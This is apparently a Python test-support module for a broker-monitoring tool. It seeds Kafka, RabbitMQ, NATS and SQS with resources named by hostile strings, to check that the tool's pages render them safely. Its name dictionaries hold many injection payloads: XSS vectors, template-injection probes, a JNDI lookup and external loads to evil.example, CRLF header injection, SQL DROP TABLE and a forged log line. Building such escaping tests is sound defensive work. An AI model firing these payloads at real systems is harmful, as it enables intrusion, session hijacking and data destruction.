"""Hostile names, and real brokers with groups, queues and streams of these names.

Every payload sets `window.pwned` or opens a dialog when it runs.
"""

import contextlib
import glob
from collections.abc import AsyncIterator, Mapping, Sequence
from dataclasses import dataclass
from urllib.parse import quote

from aio_pika.abc import AbstractIncomingMessage

from signalbox.brokers.model import DestinationSpec, Message
from signalbox.brokers.nats.adapter import NatsBroker
from signalbox.brokers.rabbitmq.adapter import RabbitBroker
from signalbox.servers.nats import NatsServer
from signalbox.servers.rabbitmq import RabbitServer
from signalbox.servers.sqs import SqsServer
from tests.support import nats, rabbitmq, sqs
from tests.support.kafka import KafkaClient, KafkaMember, KafkaUnderTest
from tests.support.tables import connection

NAMES: Mapping[str, str] = {
    "script": "<script>alert(1);window.pwned=1</script>",
    "image": "<img src=x onerror=window.pwned=1>",
    "svg": "<svg onload=window.pwned=1><style>*{display:none}</style>",
    "attribute": '"\'` autofocus onfocus=window.pwned=1 x="',
    "out of script": "</script></title></textarea><script>window.pwned=1</script>",
    "address": "javascript:window.pwned=1",
    "data address": "data:text/html,<script>parent.pwned=1</script>",
    "style": "</style><style>body{width:9999px}*{position:fixed}",
    "htmx": '" hx-get="/metrics" hx-trigger="load" hx-on:load="window.pwned=1',
    "template": "{{7*7}}{%raw%}${7*7}#{7*7}<%=7*7%>",
    "entity": "&lt;b&gt;&#60;i&#62;&amp;",
    "slashes": "a/b//c/../d/",
    "backslashes": "..\\..\\c:\\x",
    "percent": "100%25 %2F %00 %zz %",
    "query": "a?b=c&d#e;f=+g",
    "only dots": "..",
    "tilde dots": "~..",
    "emoji": "\U0001f469\u200d\U0001f680 caf\u00e9 \U0001f1ea\U0001f1fa",
    "bidi": "safe\u202efdp.exe\u2066\u200f",
    "zero width": "pay\u200bments\u2060\ufeff",
    "controls": "bell\x07tab\tescape\x1b[31m del\x7f next\x85",
    "spaces": "two  spaces\u00a0\u3000",
    "quotes": 'it\'s "quoted" `so`',
    "hebrew": "\u05e9\u05dc\u05d5\u05dd orders",
    "combining": "z" + "\u0301" * 60,
    "longest": "x" * 249,
    "longest words": "m " * 124 + "m",
    "toml": 'a"]\n[[connections]]\nname="b',
}
MORE: Mapping[str, str] = {
    "script in capitals": "<ScRiPt>window.pwned=1</sCrIpT>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script never closed": "<script>window.pwned=1//",
    "split script": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "nul in script": "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "comment": "--><script>window.pwned=1</script><!--",
    "cdata": "]]><script>window.pwned=1</script><![CDATA[",
    "template element": "<template><script>window.pwned=1</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.pwned=1>">',
    "svg script": "<svg><script>window.pwned=1</script></svg>",
    "svg animate": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"/></svg>',
    "iframe": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": '<object data="javascript:window.pwned=1"></object>',
    "embed": '<embed src="javascript:window.pwned=1">',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example/"><input name=password autofocus onfocus=window.pwned=1></form>',
    "form action": '"><button formaction="javascript:window.pwned=1">Sign in</button>',
    "details": "<details open ontoggle=window.pwned=1>",
    "video": "<video><source onerror=window.pwned=1></video>",
    "marquee": "<marquee onstart=window.pwned=1>",
    "link address": '<a href="javascript:window.pwned=1" id=x>click</a>',
    "address with a tab": "java\tscript:window.pwned=1",
    "attribute by slash": "x/onmouseover=window.pwned=1//",
    "single quote": "' onmouseover='window.pwned=1' x='",
    "back tick": "` onmouseover=window.pwned=1 `",
    "no quote": "x onmouseover=window.pwned=1 y",
    "bidi in attribute": '\u202e"\u2066 onmouseover=window.pwned=1 \u2069',
    "wide quote": "\uff02 onmouseover=window.pwned=1 \uff1cscript\uff1e",
    "utf-7": "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "encoded": "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "double encoded": "%253Cscript%253Ewindow.pwned=1%253C/script%253E",
    "escaped": "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "template block": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template filter": "{{ ''.__class__.__mro__|safe }}{{ config }}{# comment #}",
    "template end": "{% endblock %}{% endif %}{{ 7 * '7' }}",
    "format": "%s%n%x {0.__class__} %(name)s ${jndi:ldap://evil.example/x}",
    "htmx on": '<div hx-on::load="window.pwned=1" hx-get="/metrics" hx-trigger="load">',
    "htmx data": '" data-hx-get="/metrics" data-hx-trigger="load" data-hx-swap="outerHTML',
    "live": '" data-live="group/x" data-fragment="groups/row" data-version="0.0',
    "nonce": '"><script nonce="x">window.pwned=1</script>',
    "style attribute": '" style="position:fixed;inset:0;background:url(https://evil.example/x)',
    "css": "}*{display:none!important}@import url(https://evil.example/x.css);",
    "css expression": "</style><style>@import 'https://evil.example/x.css';</style>",
    "table": "</td></tr></table></main><h1>Signalbox is broken</h1>",
    "body": "</body></html><body onload=window.pwned=1>",
    "header": "x\r\nSet-Cookie: signalbox=chosen\r\nLocation: https://evil.example/\r\n\r\n<script>window.pwned=1</script>",
    "log line": "x\n2026-11-26 03:12:40,000 ERROR signalbox.security.door: admin removed everybody",
    "line separators": "a\u2028b\u2029c\x0bd\x0ce\x85f",
    "dangling": '<img src="https://evil.example/?',
    "json": '"}],"items":[{"name":"x',
    "json prototype": '{"__proto__":{"pwned":1}}',
    "sql": "x'; DROP TABLE audit; --",
    "tags": "\U000e0041\U000e0042 tags \U000e007f",
    "private use": "\ue000 \U000f0000 \uffff",
    "arabic ligature": "\ufdfd" * 20,
    "combining tower": "Z" + "\u0489" * 200,
    "unbroken markup": "<b>" * 80,
    "rows of line ends": "\n" * 200,
    "overlong": "<i>" * 300,
}
"""Too many to create on a real broker: a simulation shows them as names and texts."""

CORPUS: Mapping[str, str] = {**NAMES, **MORE}
HELD_BACK: Mapping[str, frozenset[str]] = {
    "rabbitmq": frozenset({"toml", "longest words"}),  # the broker strips line breaks; "spaces" covers the other
}
EXTRA: Mapping[str, Mapping[str, str]] = {
    "rabbitmq": {"nul": "nul\x00nul", "longest emoji": "\U0001f680" * 63, "shaped as json": '","name":"x'},
}
STREAMS = {
    "script": "<script",
    "image": "<img\u200bsrc=x\u200bonerror=pwned=1",
    "quotes": "\"'`{{7+7}}%2F%",
    "address": "javascript:pwned=1",
    "bidi": "a\u202eb\u200bc\U0001f680",
    "controls": "bell\x07esc\x1b",
    "query": "a?b=c&d#e",
    "longest": "s" * 120,
}
VHOST = '<img src=x onerror="window.pwned=1">/%'
TOO_LONG = "<b>" * 10_000  # Kafka allows it; pages exclude it
TOPIC = "hostile-names"
PUBLISHED = 60  # each Kafka group has read another number of them, so all lags differ and none is 0


def names(kind: str) -> list[str]:
    """Return the names of this kind of broker."""
    held_back = HELD_BACK.get(kind, frozenset())
    return [name for key, name in NAMES.items() if key not in held_back] + [*EXTRA.get(kind, {}).values()]


def exactly(texts: Sequence[str]) -> list[str]:
    """Return `include` patterns of exactly these names, without a "${" that reads as a variable."""
    return [glob.escape(text).replace("${", "$[{]") for text in texts]


@dataclass(frozen=True, slots=True)
class Expected:
    """What a page must show under its exact name; `groups` maps a name to its lag."""

    groups: Mapping[str, int]
    destinations: frozenset[str]


class HostileKafka:
    """Groups on one topic; one has a member with a hostile client id."""

    def __init__(self, server: KafkaUnderTest) -> None:
        self._server = server
        self._oracle = KafkaClient(server.bootstrap)
        self._names = names("kafka")
        self._more = 0

    @contextlib.asynccontextmanager
    async def there(self) -> AsyncIterator["HostileKafka"]:
        await self._oracle.create(TOPIC)
        await self._oracle.produce(TOPIC, 0, PUBLISHED)
        for settled, group in enumerate([*self._names, TOO_LONG]):
            await self._oracle.commit(group, {(TOPIC, 0): settled})
        reading = KafkaMember(self._server.bootstrap, NAMES["quotes"], client_id=NAMES["image"])
        async with reading.subscribe(TOPIC):
            yield self

    def table(self) -> str:
        shown = exactly([TOPIC, *self._names, TOO_LONG])
        return connection("kafka", "kafka", bootstrap=[self._server.bootstrap], include=shown)

    async def one_more(self) -> None:
        self._more += 1
        await self._oracle.produce(TOPIC, 0, 1)

    def expected(self) -> Expected:
        lags = {group: PUBLISHED + self._more - settled for settled, group in enumerate(self._names)}
        return Expected(lags, frozenset({TOPIC}))


class HostileRabbit:
    """Queues in a virtual host of a hostile name; one has a consumer with a hostile tag."""

    def __init__(self, server: RabbitServer) -> None:
        self._server = server
        self._names = names("rabbitmq")
        self._more = 0
        self._broker: RabbitBroker

    @contextlib.asynccontextmanager
    async def there(self) -> AsyncIterator["HostileRabbit"]:
        user = self._server.address().user
        vhost = quote(VHOST, safe="")
        await rabbitmq.management(self._server, f"/api/vhosts/{vhost}", method="PUT")
        await rabbitmq.permit(self._server, user, vhost, ".*")
        settings = rabbitmq.rabbit_settings(self._server.address(), vhosts=(VHOST,))
        async with rabbitmq.opened(settings) as self._broker, rabbitmq.oracle(self._server, VHOST) as channel:
            dead = {"x-dead-letter-exchange": NAMES["image"], "x-dead-letter-routing-key": NAMES["script"]}
            for count, queue in enumerate(self._names, start=1):
                await rabbitmq.fill(self._broker, queue, count, dead if count == 1 else None)
            await channel.set_qos(prefetch_count=1)
            queue_read = await channel.get_queue(NAMES["quotes"])
            await queue_read.consume(_keep, consumer_tag=NAMES["svg"])
            yield self

    def table(self) -> str:
        address = self._server.address()
        login = {"user": address.user, "password": address.password, "management_url": address.management_url}
        return connection("rabbitmq", "rabbitmq", host=address.host, port=address.port, vhosts=[VHOST], **login)

    async def one_more(self) -> None:
        self._more += 1
        for queue in self._names:
            await self._broker.publish(queue, Message(body=b"x"))

    def expected(self) -> Expected:
        lags = {queue: count + self._more for count, queue in enumerate(self._names, start=1)}
        return Expected(lags, frozenset(self._names))


async def _keep(_: AbstractIncomingMessage) -> None:
    """Take a message and never acknowledge it."""


class HostileNats:
    """Streams with a consumer each, as hostile as JetStream allows."""

    def __init__(self, server: NatsServer) -> None:
        self._server = server
        self._streams = [*STREAMS.values()]
        self._more = 0
        self._broker: NatsBroker

    @contextlib.asynccontextmanager
    async def there(self) -> AsyncIterator["HostileNats"]:
        async with nats.opened(nats.nats_settings(self._server)) as self._broker:
            for count, stream in enumerate(self._streams, start=1):
                await self._broker.ensure([DestinationSpec(name=stream, groups=(stream,))])
                for _ in range(count):
                    await self._broker.publish(stream, Message(body=b"x"))
            yield self

    def table(self) -> str:
        server = self._server
        shown = exactly([*self._streams, *(f"{stream}/{stream}" for stream in self._streams)])
        return connection("nats", "nats", urls=[server.url], user=server.user, password=server.password, include=shown)

    async def one_more(self) -> None:
        self._more += 1
        for stream in self._streams:
            await self._broker.publish(stream, Message(body=b"x"))

    def expected(self) -> Expected:
        lags = {f"{stream}/{stream}": count + self._more for count, stream in enumerate(self._streams, start=1)}
        return Expected(lags, frozenset(self._streams))


class HostileSqs:
    """A queue with the worst name that SQS allows."""

    def __init__(self, server: SqsServer) -> None:
        self._server = server
        self._name = "javascript--" + "_" * 68
        self._client = sqs.plain_client(server.endpoint)
        self._sent = 0

    @contextlib.asynccontextmanager
    async def there(self) -> AsyncIterator["HostileSqs"]:
        self._address = self._client.create_queue(QueueName=self._name)["QueueUrl"]
        for _ in range(7):
            await self.one_more()
        yield self
        self._client.close()

    def table(self) -> str:
        login = {"region": sqs.REGION, "access_key_id": sqs.KEY_ID, "secret_access_key": sqs.SECRET}
        address, queues = self._server.endpoint, [self._name]
        return connection(
            "sqs", "sqs", endpoint_url=address, queues=queues, interval_s=5, watched_interval_s=5, **login
        )

    async def one_more(self) -> None:
        self._sent += 1
        self._client.send_message(QueueUrl=self._address, MessageBody="x")

    def expected(self) -> Expected:
        return Expected({self._name: self._sent}, frozenset({self._name}))
